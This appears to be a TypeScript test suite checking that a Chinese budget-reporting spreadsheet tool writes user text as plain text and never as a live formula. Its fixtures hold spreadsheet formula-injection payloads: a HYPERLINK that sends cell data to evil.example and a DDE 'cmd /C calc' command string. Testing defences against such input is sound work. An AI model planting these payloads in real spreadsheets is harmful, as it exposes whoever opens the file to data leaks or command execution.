/**
 * Formula injection (issue 5): cell text that starts with `=`, `+`, `-`, `@`, a tab or a carriage
 * return is written back as text in every sheet the tool writes — 预算执行汇总, 绩效自评文字 and
 * 校验结果 — never as a formula.
 *
 * One workbook per leading character: the table's sheet is named with it, and project names,
 * document numbers, reasons, offices, the title line (whence the department in the summary's
 * title) and an amount typed as text start with it; some rows have errors, so that `fill` writes
 * 校验结果, and `fill --force` all three sheets. The output's sheets are read at XML level (every
 * cell as the engine planned it: text as an inline string, the formulas only the engine's own)
 * and through LibreOffice, an independent spreadsheet program (text cells come back as text with
 * the exact text, and no cell but the planned ones is a formula).
 */
import ExcelJS from 'exceljs';
import { execFileSync } from 'child_process';
import * as fs from 'fs';
import * as os from 'os';
import * as path from 'path';
import { strFromU8, strToU8, zipSync } from 'fflate';
import { main } from '../../src/cli/main';
import { analyze, type PlanCell, planWrite, type SheetPlan } from '../../src/engine';
import { rowsOf } from '../../src/engine/plan';
import { readOwnership } from '../../src/xlsx/package';
import { readWorkbookFile } from '../../src/xlsx/read';
import { haveTool } from '../helpers/libreoffice';
import { type Entries, readParts } from '../helpers/package-compare';

const PREFIXES = ['=', '+', '-', '@', '\t', '\r'] as const;
const LABEL: Record<(typeof PREFIXES)[number], string> = { '=': 'equals', '+': 'plus', '-': 'minus', '@': 'at', '\t': 'tab', '\r': 'cr' };

let tmp: string;
beforeAll(() => {
  tmp = fs.mkdtempSync(path.join(os.tmpdir(), 'jixiao-injection-'));
});
afterAll(() => fs.rmSync(tmp, { recursive: true, force: true }));

/**
 * The payloads of one workbook. A tab or CR is followed by '=' too: the engine trims the
 * whitespace around a cell's text, and what is left must still be text.
 */
function payloads(p: string): { name: string; doc: string; reason: string; office: string; second: string; budgetText: string } {
  const q = p === '\t' || p === '\r' ? `${p}=` : p;
  return {
    name: `${q}HYPERLINK("http://evil.example/?d="&A1,"点击查看")`,
    doc: `${q}1+1`,
    reason: `${q}cmd|' /C calc'!A0`,
    office: `${q}SUM(A1:A9)`,
    second: `${q}2+3`,
    budgetText: `${q}10+5`,
  };
}

/** The sheet name of the table: tab and CR go in as character references (a raw one would become a space). */
const sheetName = (p: string): string => `${p}明细`;

async function injectionWorkbook(p: string): Promise<Uint8Array> {
  const x = payloads(p);
  const wb = new ExcelJS.Workbook();
  const placeholder = 'PLACEHOLDER明细';
  const ws = wb.addWorksheet(p === '\t' || p === '\r' ? placeholder : sheetName(p));
  ws.addRow([`${p}某局2024年度项目支出明细表`]);
  ws.addRow(['单位：万元']);
  ws.addRow(['序号', '项目名称', '资金文号', '资金类别', '资金级次', '全年预算数', '全年执行数', '执行率', '偏差原因及改进措施', '责任科室']);
  ws.addRow([1, x.name, x.doc, '本级财政资金', '本级', 100, 50, 0.5, x.reason, x.office]);
  ws.addRow([2, x.second, x.doc, '专项转移支付', '省', 80, null, null, x.reason, x.office]); // missing-value
  ws.addRow([3, '道路维修', '唐财建〔2024〕10号', '其他资金', '市', x.budgetText, 10, null, '', x.office]); // not-a-number
  ws.addRow([4, x.name, '唐财建〔2024〕11号', '本级财政资金', '本级', 60, 30, 0.5, '', '']); // low execution, no reason
  for (const r of [4, 5, 6, 7]) ws.getCell(`H${r}`).numFmt = '0.00%';
  const entries: Entries = readParts(new Uint8Array(await wb.xlsx.writeBuffer()));
  if (p === '\t' || p === '\r') {
    const ref = p === '\t' ? '&#9;' : '&#13;';
    for (const part of ['xl/workbook.xml', 'docProps/app.xml']) {
      if (entries[part]) entries[part] = strToU8(strFromU8(entries[part]).split(placeholder).join(`${ref}明细`));
    }
  }
  return zipSync(entries);
}

// ---------------------------------------------------------------------------------------------
// Reading the owned sheets at XML level

/** Decodes a cell's text as written (XML escapes, then OOXML's _xHHHH_). */
function decodeXString(s: string): string {
  const xml = s.replace(/&(#x[0-9a-fA-F]+|#\d+|amp|lt|gt|quot|apos);/g, (_m, b: string) =>
    b === 'amp' ? '&' : b === 'lt' ? '<' : b === 'gt' ? '>' : b === 'quot' ? '"' : b === 'apos' ? "'" : String.fromCodePoint(b[1] === 'x' ? parseInt(b.slice(2), 16) : Number(b.slice(1))),
  );
  return xml.replace(/_x([0-9A-Fa-f]{4})_/g, (_m, h: string) => String.fromCharCode(parseInt(h, 16)));
}

interface XmlCell {
  type: string | undefined;
  formula?: string;
  text?: string;
  value?: string;
}

/** The cells of the sheets the tool owns, by sheet name and address. */
function ownedSheetCells(entries: Entries): Map<string, Map<string, XmlCell>> {
  const owned = readOwnership(entries)?.sheets.map((s) => s.name) ?? [];
  const workbook = strFromU8(entries['xl/workbook.xml']);
  const rels = strFromU8(entries['xl/_rels/workbook.xml.rels']);
  const out = new Map<string, Map<string, XmlCell>>();
  for (const name of owned) {
    const esc = name.replace(/&/g, '&amp;').replace(/</g, '&lt;').replace(/>/g, '&gt;').replace(/"/g, '&quot;');
    const rid = new RegExp(`<sheet [^>]*name="${esc.replace(/[.*+?^${}()|[\]\\]/g, '\\$&')}"[^>]*r:id="([^"]+)"`).exec(workbook)?.[1];
    const target = rid && new RegExp(`Id="${rid}"[^>]*Target="([^"]+)"`).exec(rels)?.[1];
    if (!target) throw new Error(`no part for ${name}`);
    const xml = strFromU8(entries[`xl/${target.replace(/^\/?xl\//, '')}`]);
    const cells = new Map<string, XmlCell>();
    for (const m of xml.matchAll(/<c r="([A-Z]+\d+)"([^>]*?)(?:\/>|>([\s\S]*?)<\/c>)/g)) {
      const [, ref, attrs, body = ''] = m;
      const type = / t="([^"]+)"/.exec(attrs)?.[1];
      const f = /<f>([\s\S]*?)<\/f>/.exec(body)?.[1];
      const t = /<is><t[^>]*>([\s\S]*?)<\/t><\/is>/.exec(body)?.[1];
      const v = /<v>([\s\S]*?)<\/v>/.exec(body)?.[1];
      cells.set(ref, { type, formula: f === undefined ? undefined : decodeXString(f), text: t === undefined ? undefined : decodeXString(t), value: v });
    }
    out.set(name, cells);
  }
  return out;
}

const colLetter = (c: number): string => (c < 26 ? String.fromCharCode(65 + c) : colLetter(Math.floor(c / 26) - 1) + String.fromCharCode(65 + (c % 26)));

/** Every plan cell by address, for the sheets of a plan. */
function planCells(sheets: SheetPlan[]): Map<string, Map<string, PlanCell>> {
  const out = new Map<string, Map<string, PlanCell>>();
  for (const s of sheets) {
    const m = new Map<string, PlanCell>();
    rowsOf(s).forEach((row, r) => row.forEach((cell, c) => m.set(`${colLetter(c)}${r + 1}`, cell)));
    out.set(s.name, m);
  }
  return out;
}

const DANGEROUS = /^[=+\-@\t\r]/;

// ---------------------------------------------------------------------------------------------

const MODES = [
  { forced: false, args: [] as string[], sheets: ['校验结果'] },
  { forced: true, args: ['--force'], sheets: ['预算执行汇总', '绩效自评文字', '校验结果'] },
];

interface Filled {
  prefix: string;
  forced: boolean;
  input: string;
  out: string;
  code: number;
  report: { sheets: string[] };
  /** The engine's plan for the input: what every written cell must be. */
  plan: SheetPlan[];
}

const filled: Filled[] = [];

beforeAll(async () => {
  for (const p of PREFIXES) {
    const input = path.join(tmp, `${LABEL[p]}.xlsx`);
    fs.writeFileSync(input, await injectionWorkbook(p));
    const read = await readWorkbookFile(input);
    if (!read.ok) throw new Error(read.error.code);
    expect(read.grid.sheets[0].name).toBe(sheetName(p));
    const result = analyze(read.grid, {});
    if (!result.ok) throw new Error(result.error.code);
    for (const mode of MODES) {
      const out = path.join(tmp, `${LABEL[p]}${mode.forced ? '-forced' : ''}.out.xlsx`);
      let stdout = '';
      const code = await main(['fill', input, '-o', out, '--json', ...mode.args], { stdout: (s) => (stdout += s), stderr: () => undefined });
      const { plan } = planWrite(read.grid, result.analysis, { mode: 'fill', force: mode.forced });
      filled.push({ prefix: p, forced: mode.forced, input, out, code, report: JSON.parse(stdout), plan: plan.sheets });
    }
  }
});

const lo = haveTool('soffice');

describe.each(PREFIXES.map((p) => [LABEL[p], p] as const))('text starting with %s', (_label, p) => {
  test.each(MODES.map((m) => [m.forced ? 'fill --force' : 'fill', m] as const))(
    "%s: every text of the owned sheets is an inline string, as planned, and no formula is anyone's but the engine's",
    (_mode, mode) => {
      const f = filled.find((x) => x.prefix === p && x.forced === mode.forced);
      if (!f) throw new Error('not filled');
      expect(f.code).toBe(1);
      expect(f.report.sheets).toEqual(mode.sheets);
      const planned = planCells(f.plan);
      const written = ownedSheetCells(readParts(f.out));
      expect([...written.keys()]).toEqual(mode.sheets);
      const dangerousTexts: string[] = [];
      for (const [sheet, cells] of written) {
        const want = planned.get(sheet);
        if (!want) throw new Error(`unplanned sheet ${sheet}`);
        for (const [ref, cell] of cells) {
          const w = want.get(ref);
          const where = `${sheet}!${ref}`;
          if (cell.formula !== undefined) {
            // A formula only where the engine planned one, exactly that one (sums over the source, rates).
            expect([where, w?.t === 'formula' ? w.formula : undefined]).toEqual([where, `=${cell.formula}`]);
            expect([where, cell.formula]).toEqual([where, expect.stringMatching(/^(SUM\(|IF\(|'[^']*(?:''[^']*)*'!)/)]);
            expect([where, /HYPERLINK|cmd|evil|\+\d|SUM\(A1/.test(cell.formula)]).toEqual([where, false]);
          } else if (cell.text !== undefined) {
            expect([where, cell.type]).toEqual([where, 'inlineStr']);
            expect([where, w?.t === 'text' ? w.text : undefined]).toEqual([where, cell.text]);
            if (DANGEROUS.test(cell.text)) dangerousTexts.push(cell.text);
          } else {
            expect([where, cell.type === 'inlineStr' || cell.type === 's' || cell.type === 'str']).toEqual([where, false]);
          }
        }
        // Nothing the plan holds as text is missing from the sheet.
        for (const [ref, w] of want) if (w.t === 'text' && w.text !== '') expect([`${sheet}!${ref}`, cells.get(ref)?.text]).toEqual([`${sheet}!${ref}`, w.text]);
      }

      // The payloads reached the owned sheets, as the report reads them (trimmed, for tab and CR).
      const x = payloads(p);
      const trimmed = (s: string): string => s.replace(/^[\t\r]+/, '');
      const expected = [sheetName(p)];
      if (mode.forced) expected.push(trimmed(x.name), trimmed(x.doc), trimmed(x.reason), trimmed(x.office));
      // The department, read from the title line, leads the summary's title.
      if (mode.forced && (p === '=' || p === '+' || p === '-' || p === '@')) expected.push(`${p}某局2024年度项目支出预算执行汇总表`);
      for (const e of expected) expect([e, dangerousTexts.includes(e)]).toEqual([e, true]);
    },
  );
});

/** Converts files with LibreOffice in one run (it takes seconds to start). */
function libreOfficeConvertAll(files: string[]): string[] {
  const outDir = fs.mkdtempSync(path.join(tmp, 'lo-out-'));
  const profile = fs.mkdtempSync(path.join(os.tmpdir(), 'jixiao-lo-profile-'));
  try {
    execFileSync('soffice', [`-env:UserInstallation=file://${profile}`, '--headless', '--norestore', '--convert-to', 'xlsx', '--outdir', outDir, ...files], {
      stdio: 'pipe',
      timeout: 180000,
    });
  } finally {
    fs.rmSync(profile, { recursive: true, force: true });
  }
  return files.map((f) => path.join(outDir, path.basename(f)));
}

const cellText = (v: ExcelJS.CellValue): string | undefined =>
  typeof v === 'string' ? v : v && typeof v === 'object' && 'richText' in v ? v.richText.map((r) => r.text).join('') : undefined;

(lo ? test : test.skip)('through LibreOffice: the same texts come back as text cells, and only the planned cells are formulas', async () => {
  const forced = filled.filter((f) => f.forced);
  expect(forced.map((f) => f.prefix)).toEqual([...PREFIXES]);
  // LibreOffice names its output after the input: copy each to a name of its own.
  const copies = forced.map((f, i) => {
    const copy = path.join(tmp, `lo-${i}.xlsx`);
    fs.copyFileSync(f.out, copy);
    return copy;
  });
  const converted = libreOfficeConvertAll(copies);
  for (const [i, f] of forced.entries()) {
    const wb = new ExcelJS.Workbook();
    await wb.xlsx.readFile(converted[i]);
    let dangerous = 0;
    for (const sheet of f.plan) {
      const ws = wb.getWorksheet(sheet.name);
      expect(ws).toBeDefined();
      if (!ws) continue;
      const planned = planCells([sheet]).get(sheet.name) ?? new Map<string, PlanCell>();
      ws.eachRow((row) =>
        row.eachCell((cell) => {
          const w = planned.get(cell.address);
          const where = `${JSON.stringify(f.prefix)} ${sheet.name}!${cell.address}`;
          if (cell.type === ExcelJS.ValueType.Formula) expect([where, w?.t]).toEqual([where, 'formula']);
        }),
      );
      for (const [ref, w] of planned) {
        if (w.t !== 'text' || w.text === '') continue;
        const cell = ws.getCell(ref);
        const where = `${JSON.stringify(f.prefix)} ${sheet.name}!${ref}`;
        expect([where, cell.type === ExcelJS.ValueType.String || cell.type === ExcelJS.ValueType.RichText || cell.type === ExcelJS.ValueType.Hyperlink]).toEqual([where, true]);
        const got = cell.type === ExcelJS.ValueType.Hyperlink ? (cell.value as ExcelJS.CellHyperlinkValue).text : cellText(cell.value);
        expect([where, got]).toEqual([where, w.text]);
        if (DANGEROUS.test(w.text)) dangerous++;
      }
    }
    expect(dangerous).toBeGreaterThanOrEqual(5);
  }
});
